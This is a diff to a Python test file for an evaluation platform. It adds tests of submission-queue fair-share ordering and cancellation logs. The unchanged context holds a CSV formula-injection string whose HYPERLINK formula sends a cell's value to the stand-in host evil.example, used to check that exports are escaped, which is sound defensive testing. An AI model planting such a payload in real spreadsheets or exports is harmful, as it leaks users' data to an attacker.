@@ -8,7 +8,9 @@ import io
 import json
 import time
 from collections.abc import Callable, Iterator
+from datetime import datetime, timezone
 from pathlib import Path
+from types import SimpleNamespace
 from typing import Any
 
 import pytest
@@ -23,6 +25,9 @@ from conftest import (
 )
 from nsml.client.api import ApiClient, ApiError
 from nsml.evaluation.results_table import csv_table
+from nsml.server.services.evaluation_slots import SlotsSnapshot
+from nsml.server.services.submission_queue import QueueState, SubmissionQueue, fair_share_order
+from nsml.server.settings import ServerSettings
 
 HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"win"),\n@SUM(1+1)\r\n"quoted", -2+3'
 
@@ -147,6 +152,8 @@ def test_queue_positions_cancel_and_limits(platform: Platform, cup: Platform) ->
     assert "cancelled by the organiser" in by_organiser["reason"]
     _until(lambda: _mine(pat, again.id)["status"] in ("running", "scored"), timeout=10)
     assert _until(lambda: _mine(pat, again.id)["status"] == "scored")
+    with _api(pat) as api:  # the participant's copy of the log says who stopped it
+        assert _until(lambda: b"cancelled by the organiser" in b"".join(api.read_submission_logs(running.id)))
     with _api(pat) as api:
         assert api.my_submissions("cup").limits.used_today == 1
 
@@ -231,3 +238,23 @@ def test_csv_cells_cannot_break_out_or_run_formulas() -> None:
     assert row[:6] == ["'" + c for c in cells[:6]]  # type: ignore[operator]
     assert row[6:] == ['plain, "text"', "-0.5", "3"]
     assert not any(cell.startswith(("=", "+", "@", "\t")) for cell in row)
+
+
+def test_the_line_follows_the_fair_share_rule_and_names_the_slot(tmp_path: Path) -> None:
+    since = datetime.now(timezone.utc)
+
+    def states(snapshot: SlotsSnapshot) -> dict[int, QueueState]:
+        slots = SimpleNamespace(slots=SimpleNamespace(snapshot=lambda: snapshot))
+        queue = SubmissionQueue(None, slots, None, ServerSettings(tmp_path))  # type: ignore[arg-type]
+        return queue.submission_states()
+
+    # ann holds both of her slots; bob and cy wait for the one free slot of three
+    snapshot = SlotsSnapshot(3, 2, [("ann", 1, since), ("bob", 2, since), ("cy", 3, since)], {"ann": 2})
+    assert fair_share_order(snapshot) == [("bob", 2), ("cy", 3), ("ann", 1)]
+    assert states(snapshot)[1] == QueueState(3, "waits for your evaluation slot (2 of 2 in use)")
+    assert (
+        states(snapshot)[3].waiting_for
+        == "waits for its turn: another user's evaluation goes first (fair share)"
+    )
+    full = SlotsSnapshot(2, 0, [("bob", 2, since)], {"ann": 2})
+    assert states(full) == {2: QueueState(1, "waits for a free evaluation slot (2 of 2 in use)")}
